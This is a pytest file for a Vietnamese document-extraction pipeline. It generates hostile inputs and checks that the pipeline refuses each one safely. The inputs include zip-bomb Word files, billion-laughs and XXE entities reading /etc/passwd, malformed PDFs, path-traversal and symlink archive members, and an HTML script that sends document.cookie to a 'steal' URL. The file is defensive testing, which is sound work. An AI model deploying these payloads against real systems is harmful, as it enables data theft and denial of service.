"""Hostile inputs, all built here in tmp_path: each is set aside with a reason (or read safely), never a
crash, a hang or runaway memory; limits are configurable and a flag changes the outcome."""

from __future__ import annotations

import builtins
import io
import json
import os
import resource
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from flow_fakes import write_reports  # noqa: E402
from test_decoding import to_cp1258  # noqa: E402
from test_loaders import make_docx, rezip  # noqa: E402

from pipeline.cli import main as cli_main  # noqa: E402
from pipeline.errors import REASONS, SetAside  # noqa: E402
from pipeline.ingest.limits import Limits  # noqa: E402
from pipeline.ingest.load import load_document  # noqa: E402
from pipeline.ingest.loaders import docx as docx_loader  # noqa: E402
from pipeline.jobs.process import process_file  # noqa: E402
from pipeline.runs_cli import main as runs_main  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
_SCRIPT = Path(sys.executable).parent / "findings"  # the console script of the venv running the tests
FINDINGS = str(_SCRIPT) if _SCRIPT.exists() else None
LIMITS = Limits()
MB = 1 << 20

REPORT = ("KẾT LUẬN THANH TRA\n\nNgày 12 tháng 3 năm 2024, Thanh tra tỉnh Nghệ An kết luận UBND huyện Nghi Lộc "
          "chi sai mục đích 1,2 tỷ đồng và chậm giải quyết 15 hồ sơ thủ tục hành chính.\n\nĐoàn thanh tra kiến "
          "nghị Chủ tịch UBND huyện chỉ đạo Phòng Tài chính - Kế hoạch rút kinh nghiệm, làm rõ sai sót.\n")
CP1258_REPORT = ("Qua thanh tra, Sở Tài chính tỉnh Hà Tĩnh phát hiện Phòng Giáo dục huyện Cẩm Xuyên thu sai quy "
                 "định 320 triệu đồng tiền học phí của học sinh.\n")
UTF16_REPORT = ("Thanh tra thành phố Đà Nẵng kết luận UBND phường Hòa Khánh Bắc chậm giải quyết 27 hồ sơ đất "
                "đai quá hạn, đề nghị khắc phục trước ngày 30/6/2024.\n")
SCRIPT_MARKER = "DÒNG-DO-SCRIPT-VIẾT"


# --- builders ---------------------------------------------------------------------------------------

def zip_bomb_docx(zeros: int = 300 * MB) -> bytes:
    """A valid Word file plus one deflated member of `zeros` NUL bytes (~1000:1), streamed, never in memory."""
    base = zipfile.ZipFile(io.BytesIO(make_docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in base.infolist():
            archive.writestr(info.filename, base.read(info.filename))
        with archive.open("word/media/image1.bin", "w") as member:
            chunk = bytes(MB)
            for _ in range(zeros // MB):
                member.write(chunk)
    return out.getvalue()


def lying_zip_bomb_docx() -> bytes:
    """A 150 MB member whose local and central headers both declare 1 KB uncompressed."""
    data = bytearray(zip_bomb_docx(150 * MB))
    name = b"word/media/image1.bin"
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        pos = data.find(signature)
        while pos >= 0:
            if data[pos + name_at:pos + name_at + len(name)] == name:
                data[pos + size_at:pos + size_at + 4] = (1024).to_bytes(4, "little")
            pos = data.find(signature, pos + 4)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name.decode()).file_size == 1024
    return bytes(data)


def docx_with_dtd(dtd: str, reference: str, encoding: str = "utf-8", pad: int = 0) -> bytes:
    """A Word file whose document.xml declares `dtd` and uses `reference` in the first run of text;
    `pad` bytes of comment push the DTD across the loader's 64 KB read chunks."""
    data = make_docx()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    head, rest = xml.split("?>", 1)
    padding = f"<!--{'x' * pad}-->" if pad else ""
    xml = head.replace("UTF-8", encoding.upper()) + "?>" + padding + dtd + rest.replace("<w:t>", f"<w:t>{reference}", 1)
    return rezip(data, replace={"word/document.xml": xml.encode(encoding)})


def billion_laughs() -> str:
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE w:document [<!ENTITY l0 "ha">{levels}]>'


XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def build_pdf(objects: list[bytes]) -> bytes:
    """A hand-written PDF from object bodies (numbered from 1; 1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def one_page_pdf(count: int = 1, page_extra: bytes = b"", catalog_extra: bytes = b"", content_extra: bytes = b"",
                 page_tail: bytes = b"") -> bytes:
    """One real page of text; the page tree claims `count` pages; extra entries spliced in where asked."""
    text = b"BT /F1 12 Tf 72 720 Td (Thanh tra tinh phat hien sai pham trong quan ly dat dai.) Tj ET"
    paths = b" ".join(b"%d 100 m %d 300 l S" % (x, x) for x in range(100, 500, 50))  # pdfplumber runs too
    content = text + b"\n" + paths + content_extra
    return build_pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
        b"<< /Type /Page " + page_extra + b"/Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_tail + b">>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


DEPTH = 100_000
NESTED_DICT = b"/Nest " + b"<< /A " * DEPTH + b">>" * DEPTH + b" "
NESTED_ARRAY = b"/Nest " + b"[" * DEPTH + b"]" * DEPTH + b" "


def script_html() -> str:
    script = (f"<script>document.write('<p>{SCRIPT_MARKER} chi sai mục đích</p>');"
              f"fetch('http://127.0.0.1:9/steal?c=' + document.cookie);</script>")
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>Kết luận thanh tra</title>{script}</head>"
            f"<body onload=\"alert('{SCRIPT_MARKER}')\"><article><h1>Kết luận thanh tra tại huyện Nghi Lộc</h1>"
            f"<p>{REPORT.splitlines()[2]}</p>{script}<p>{REPORT.splitlines()[4]}</p>"
            f"<noscript>{SCRIPT_MARKER}</noscript></article></body></html>")


def sparse_file(path: Path, size: int = 300 * MB) -> Path:
    with open(path, "wb") as fh:
        fh.truncate(size)
    return path


def code_of(call) -> str:
    with pytest.raises(SetAside) as err:
        call()
    assert err.value.code in REASONS
    return err.value.code


def timed(call, seconds: float):
    started = time.monotonic()
    result = call()
    assert time.monotonic() - started < seconds
    return result


# --- DOCX: bombs and entities -----------------------------------------------------------------------

def test_zip_bomb_docx_is_refused_before_inflating():
    bomb = zip_bomb_docx()
    assert len(bomb) < 2 * MB
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert timed(lambda: code_of(lambda: load_document(bomb, source_uri="bom.docx", limits=LIMITS)), 10) \
        == "decompression_limit"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KB: nothing inflated


def test_zip_bomb_with_lying_headers_is_counted_while_inflating():
    """Declared sizes say 1 KB: the loader counts real bytes, so the member still cannot expand unchecked."""
    bomb = lying_zip_bomb_docx()
    code = timed(lambda: code_of(lambda: load_document(bomb, source_uri="bom.docx",
                                                       limits=Limits(max_decompressed=20 * MB))), 10)
    assert code in ("decompression_limit", "corrupt")


@pytest.mark.parametrize("dtd, reference, encoding, pad", [
    (billion_laughs(), "&l9;", "utf-8", 0),
    (XXE, "&xxe;", "utf-8", 0),
    (XXE, "&xxe;", "utf-16", 0),
    (XXE, "&xxe;", "utf-8", (1 << 16) - 200),  # the declaration straddles a 64 KB read chunk
], ids=["billion-laughs", "xxe", "xxe-utf16", "xxe-across-chunks"])
def test_entity_declarations_in_docx_are_unsafe(dtd, reference, encoding, pad):
    evil = docx_with_dtd(dtd, reference, encoding, pad)
    assert timed(lambda: code_of(lambda: docx_loader.load(evil, LIMITS)), 5) == "unsafe"
    assert code_of(lambda: load_document(evil, source_uri="x.docx", limits=LIMITS)) == "unsafe"


# --- PDF: page tree and nesting ----------------------------------------------------------------------

def test_pdf_claiming_a_million_pages_is_refused_by_the_page_limit():
    pdf = one_page_pdf(count=1_000_000)
    assert timed(lambda: code_of(lambda: load_document(pdf, source_uri="p.pdf", limits=LIMITS)), 5) \
        == "too_many_pages"
    lifted = Limits(max_pages=2_000_000)  # past the limit the lie shows at the first missing page, at once
    assert timed(lambda: code_of(lambda: load_document(pdf, source_uri="p.pdf", limits=lifted)), 5) == "corrupt"


def test_pdf_with_an_absurd_page_count_reads_only_its_real_page():
    """pdfium ignores a /Count beyond its own maximum and counts the tree: one page, read quickly."""
    document = timed(lambda: load_document(one_page_pdf(count=2**31 - 1), source_uri="p.pdf", limits=LIMITS), 10)
    assert document.text == "Thanh tra tinh phat hien sai pham trong quan ly dat dai."


@pytest.mark.parametrize("where", ["page-dict", "page-array", "catalog", "content-stream", "page-tail"])
def test_deeply_nested_pdf_objects_neither_crash_nor_hang(where):
    """pdfium stops at its depth limit; pdfminer (tables) may give up on the page: never internal_error."""
    pdf = {"page-dict": lambda: one_page_pdf(page_extra=NESTED_DICT),
           "page-array": lambda: one_page_pdf(page_extra=NESTED_ARRAY),
           "catalog": lambda: one_page_pdf(catalog_extra=NESTED_ARRAY),
           "content-stream": lambda: one_page_pdf(content_extra=b"\n" + b"[" * DEPTH + b"]" * DEPTH),
           "page-tail": lambda: one_page_pdf(page_tail=NESTED_DICT)}[where]()
    try:
        document = timed(lambda: load_document(pdf, source_uri="n.pdf", limits=LIMITS), 20)
    except SetAside as err:
        assert err.code in ("corrupt", "empty"), err
    else:
        assert document.text == "Thanh tra tinh phat hien sai pham trong quan ly dat dai."


# --- HTML, text, size ------------------------------------------------------------------------------

def test_html_scripts_are_neither_run_nor_extracted():
    document = load_document(script_html().encode(), source_uri="s.html", limits=LIMITS)
    assert "chi sai mục đích 1,2 tỷ đồng" in document.text
    for leaked in (SCRIPT_MARKER, "document.write", "fetch(", "alert", "cookie"):
        assert leaked not in document.text and leaked not in (document.title or "")


def test_nul_bytes_in_text_are_dropped_and_mostly_nul_files_refused():
    stray = REPORT.encode().replace(b"Nghi", b"\x00Nghi").replace(b"\n\n", b"\n\x00\n", 1)
    document = load_document(stray, source_uri="nul.txt", limits=LIMITS)
    assert "\x00" not in document.text and "UBND huyện Nghi Lộc" in document.text
    assert code_of(lambda: load_document(b"\x00" * 4000 + REPORT.encode(), source_uri="nul.txt", limits=LIMITS)) \
        == "unsupported_format"


def test_300_mb_file_is_refused_by_size_without_being_read(tmp_path, monkeypatch):
    big = sparse_file(tmp_path / "khong-lo.txt")
    real_open = builtins.open

    def guarded_open(file, *args, **kwargs):
        assert Path(str(file)) != big, "the oversized file was opened"
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail(f"read_bytes({self})"))
    assert code_of(lambda: process_file(big, LIMITS, "khong-lo.txt")) == "too_large"
    assert code_of(lambda: load_document(big, source_uri="khong-lo.txt", limits=LIMITS)) == "too_large"


# --- limits are configurable ------------------------------------------------------------------------

def two_page_pdf() -> bytes:
    from test_loaders import new_pdf

    pdf = new_pdf()
    for line in REPORT.split("\n\n")[1:]:
        pdf.add_page()
        pdf.multi_cell(0, 6, line)
    return bytes(pdf.output())


def extract_codes(capsys, *argv: str) -> dict[str, str]:
    """Run `findings extract` in-process; {input name: status or reason}."""
    out = Path(argv[argv.index("--out") + 1])
    code = cli_main(["extract", *argv])
    capsys.readouterr()
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert code == (1 if manifest["summary"]["set_aside"] else 0)
    return {Path(e["input"]).name: e.get("reason", e["status"]) for e in manifest["entries"]}


def test_each_limit_flag_and_variable_changes_the_outcome(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("FINDINGS_MAX_BYTES", raising=False)
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "bao-cao.txt").write_text(REPORT, encoding="utf-8")
    (docs / "hai-trang.pdf").write_bytes(two_page_pdf())
    (docs / "bien-ban.docx").write_bytes(make_docx())
    assert set(extract_codes(capsys, str(docs), "--out", str(tmp_path / "o0")).values()) == {"processed"}

    txt, pdf, docx = (str(docs / n) for n in ("bao-cao.txt", "hai-trang.pdf", "bien-ban.docx"))
    assert extract_codes(capsys, txt, "--out", str(tmp_path / "o1"), "--max-bytes", "100") == \
        {"bao-cao.txt": "too_large"}
    assert extract_codes(capsys, pdf, "--out", str(tmp_path / "o2"), "--max-pages", "1") == \
        {"hai-trang.pdf": "too_many_pages"}
    assert extract_codes(capsys, docx, "--out", str(tmp_path / "o3"), "--max-decompressed", "10000") == \
        {"bien-ban.docx": "decompression_limit"}
    assert extract_codes(capsys, txt, "--out", str(tmp_path / "o4"), "--max-seconds", "0.001") == \
        {"bao-cao.txt": "timeout"}
    monkeypatch.setenv("FINDINGS_MAX_BYTES", "100")
    assert extract_codes(capsys, txt, "--out", str(tmp_path / "o5")) == {"bao-cao.txt": "too_large"}
    assert extract_codes(capsys, txt, "--out", str(tmp_path / "o6"), "--max-bytes", str(MB)) == \
        {"bao-cao.txt": "processed"}  # the flag wins over the environment


# --- archives given to `findings reprocess` ---------------------------------------------------------

def test_reprocess_refuses_traversal_absolute_and_link_members(tmp_path):
    """Real CLI, fake extractor: unsafe members are named in the manifest and nothing lands outside."""
    good = write_reports(tmp_path / "src", 2)
    zip_path, tar_path = tmp_path / "kho.zip", tmp_path / "kho.tar.gz"
    with zipfile.ZipFile(zip_path, "w") as zf:
        zf.write(good[0], "2024/bao-cao-000.txt")
        zf.writestr("../../thoat-ra.txt", REPORT)
        zf.writestr("/tmp/tuyet-doi.txt", REPORT)
        zf.writestr("..\\..\\windows.txt", REPORT)
    with tarfile.open(tar_path, "w:gz") as tf:
        tf.add(good[1], "2024/bao-cao-001.txt")
        for name in ("../../thoat-ra.txt", "/tmp/tuyet-doi.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(REPORT.encode())
            tf.addfile(info, io.BytesIO(REPORT.encode()))
        link = tarfile.TarInfo("2024/mat-khau.txt")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tf.addfile(link)
    env = {**os.environ, "FINDINGS_PROCESSOR": "flow_fakes:fake_process",
           "PYTHONPATH": os.pathsep.join([str(ROOT / "tests"), str(ROOT)])}
    for archive, unsafe in ((zip_path, 3), (tar_path, 3)):
        out = tmp_path / f"out-{archive.name}"
        done = subprocess.run([sys.executable, "-m", "pipeline.runs_cli", "reprocess", str(archive), "--out", str(out),
                               "--db", f"sqlite:///{tmp_path}/reg.sqlite", "--workers", "0"],
                              cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
        assert f"set aside unsafe: {unsafe}" in done.stderr
        entries = json.loads((out / "manifest.json").read_text())["entries"]
        refused = sorted(e["source_uri"] for e in entries if e.get("reason") == "unsafe")
        assert len(refused) == unsafe and all(e["status"] in ("processed", "set_aside") for e in entries)
        assert sum(e["status"] == "processed" for e in entries) == 1
    assert not list(tmp_path.parent.glob("thoat-ra.txt")) and not (tmp_path / "thoat-ra.txt").exists()
    assert not Path("/tmp/tuyet-doi.txt").exists() and not Path("/windows.txt").exists()


# --- the nightly inbox -----------------------------------------------------------------------------

def test_nightly_never_follows_links_out_of_the_inbox_nor_reads_oversized_files(tmp_path, monkeypatch):
    (tmp_path / "empty.toml").write_text("")
    monkeypatch.setenv("FINDINGS_CONFIG", str(tmp_path / "empty.toml"))
    monkeypatch.setenv("FINDINGS_PROCESSOR", "flow_fakes:fake_process")
    inbox, outside = tmp_path / "inbox", tmp_path / "ngoai"
    write_reports(inbox, 1)
    write_reports(outside, 2, tag="-ngoai")
    secret = outside / "bi-mat.txt"
    secret.write_text("BÍ-MẬT-KHÔNG-ĐƯỢC-ĐỌC: Thanh tra tỉnh Nghệ An chi sai mục đích.", encoding="utf-8")
    os.symlink(secret, inbox / "tuyet-doi.txt")
    os.symlink(Path("..") / "ngoai" / "bao-cao-000-ngoai.txt", inbox / "tuong-doi.txt")
    os.symlink("/etc/passwd", inbox / "passwd.txt")
    os.symlink(outside, inbox / "thu-muc")
    big = sparse_file(inbox / "khong-lo.txt")
    before = {p: p.read_bytes() for p in outside.iterdir()}
    from pipeline.jobs import work

    real_hash = work.hash_file
    monkeypatch.setattr(work, "hash_file", lambda path: real_hash(path) if Path(path) != big
                        else pytest.fail("the oversized file was read to hash it"))

    code = runs_main(["run", "nightly", "--no-prefect", "--no-publish", "--inbox", str(inbox),
                      "--out", str(tmp_path / "out"), "--db", f"sqlite:///{tmp_path}/reg.sqlite"])
    assert code == 1
    manifest = json.loads(next((tmp_path / "out").glob("*/manifest.json")).read_text())
    outcomes = {e["source_uri"]: e.get("reason", e["status"]) for e in manifest["entries"]}
    assert outcomes == {"inbox/bao-cao-000.txt": "processed", "inbox/passwd.txt": "unsafe",
                        "inbox/khong-lo.txt": "too_large",
                        "inbox/thu-muc": "unsafe", "inbox/tuong-doi.txt": "unsafe", "inbox/tuyet-doi.txt": "unsafe"}
    assert {p: p.read_bytes() for p in outside.iterdir()} == before  # targets untouched, not moved
    assert all((inbox / "quarantine" / n).is_symlink() for n in ("passwd.txt", "thu-muc", "tuyet-doi.txt"))
    written = b"".join(p.read_bytes() for p in (tmp_path / "out").rglob("*") if p.is_file())
    written += (tmp_path / "reg.sqlite").read_bytes()
    assert "BÍ-MẬT".encode() not in written and b"root:x:0:0" not in written


# --- DONE-WHEN: everything at once through the real command ------------------------------------------

def limit_memory():
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def run_measured(command: list[str], cwd: Path, timeout: float) -> tuple[int, str, str, float, int]:
    """(exit code, stdout, stderr, seconds, peak RSS in KB) of one child under a 3 GiB address-space limit,
    killed after `timeout` s; rusage is read for this child alone (os.wait4), not all of pytest's."""
    out, err = cwd / ".stdout", cwd / ".stderr"
    env = {k: v for k, v in os.environ.items() if not k.startswith("FINDINGS_")}
    started = time.monotonic()
    with open(out, "w") as fo, open(err, "w") as fe, subprocess.Popen(
            command, cwd=cwd, stdout=fo, stderr=fe, env=env, preexec_fn=limit_memory) as proc:
        watchdog = threading.Timer(timeout, proc.kill)
        watchdog.start()
        try:
            _, status, usage = os.wait4(proc.pid, 0)
        finally:
            watchdog.cancel()
        proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - started
    return proc.returncode, out.read_text(), err.read_text(), seconds, usage.ru_maxrss


@pytest.mark.skipif(FINDINGS is None, reason="the findings console script is not installed in .venv")
def test_extract_folder_of_hostile_files_in_a_subprocess(tmp_path):
    """Every hostile file set aside with its reason, the valid ones extracted, bounded time and memory."""
    docs, out, outside = tmp_path / "hop-thu", tmp_path / "ket-qua", tmp_path / "ngoai"
    docs.mkdir()
    outside.mkdir()
    (outside / "bi-mat.txt").write_text("BÍ-MẬT: " + REPORT, encoding="utf-8")
    expected_bad = {
        "bom.docx": ("decompression_limit", zip_bomb_docx()),
        "cuoi-ty-lan.docx": ("unsafe", docx_with_dtd(billion_laughs(), "&l9;")),
        "xxe.docx": ("unsafe", docx_with_dtd(XXE, "&xxe;")),
        "trieu-trang.pdf": ("too_many_pages", one_page_pdf(count=1_000_000)),
        "long-sau.pdf": ("empty", one_page_pdf(page_extra=NESTED_DICT)),
        "khong-lo.txt": ("too_large", None),
        "lien-ket.txt": ("unsafe", None),
    }
    for name, (_, data) in expected_bad.items():
        if data is not None:
            (docs / name).write_bytes(data)
    sparse_file(docs / "khong-lo.txt")
    os.symlink(outside / "bi-mat.txt", docs / "lien-ket.txt")
    valid = {
        "cp1258.txt": (to_cp1258(CP1258_REPORT), "thu sai quy định 320 triệu đồng"),
        "utf16.txt": (UTF16_REPORT.encode("utf-16"), "Hòa Khánh Bắc chậm giải quyết 27 hồ sơ"),
        "co-script.html": (script_html().encode(), "chi sai mục đích 1,2 tỷ đồng"),
        "co-nul.txt": (REPORT.encode().replace(b"Nghi", b"\x00Nghi"), "UBND huyện Nghi Lộc"),
    }
    assert to_cp1258(CP1258_REPORT) != CP1258_REPORT.encode("utf-8")
    for name, (data, _) in valid.items():
        (docs / name).write_bytes(data)

    returncode, stdout, stderr, seconds, max_rss_kb = run_measured(
        [FINDINGS, "extract", docs.name, "--out", str(out)], tmp_path, timeout=120)
    assert seconds < 120 and max_rss_kb < 1.5 * (1 << 20), (seconds, max_rss_kb)
    assert returncode == 1, stderr
    assert "Traceback" not in stdout + stderr
    for name, (code, _) in expected_bad.items():
        assert f"set aside: {docs.name}/{name}: {code}:" in stderr, (name, stderr)
    assert f"{len(valid)} processed, {len(expected_bad)} set aside" in stderr

    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["summary"] == {"inputs": 11, "processed": 4, "set_aside": 7}
    assert sorted(Path(e["input"]).name for e in manifest["entries"]) == sorted([*expected_bad, *valid])
    for name, (_, phrase) in valid.items():
        output = json.loads((out / f"{Path(name).stem}.json").read_text(encoding="utf-8"))
        assert phrase in output["text"], name
        assert "\x00" not in output["text"] and SCRIPT_MARKER not in output["text"]
    written = "".join(p.read_text(encoding="utf-8") for p in out.iterdir())
    assert "BÍ-MẬT" not in written and "root:x:0:0" not in written and "Traceback" not in written
    assert sorted(p.name for p in out.iterdir()) == sorted(["manifest.json", *(f"{Path(n).stem}.json" for n in valid)])


def test_the_time_limit_holds_in_worker_threads_and_never_fires_late():
    """Dask runs documents in worker threads, where SIGALRM cannot reach."""
    from concurrent.futures import ThreadPoolExecutor

    from pipeline.errors import SetAside
    from pipeline.jobs.process import time_limit

    def busy() -> str:
        try:
            with time_limit(0.2):
                deadline = time.monotonic() + 10  # bounded, so a regression fails instead of hanging
                while time.monotonic() < deadline:
                    pass
        except SetAside as exc:
            return exc.code
        return "not stopped"

    def quick() -> str:
        with time_limit(0.05):
            pass
        deadline = time.monotonic() + 0.3
        while time.monotonic() < deadline:  # a disarmed limit must not strike afterwards
            pass
        return "done"

    with ThreadPoolExecutor(2) as pool:
        assert [f.result(timeout=30) for f in (pool.submit(busy), pool.submit(quick))] == ["timeout", "done"]
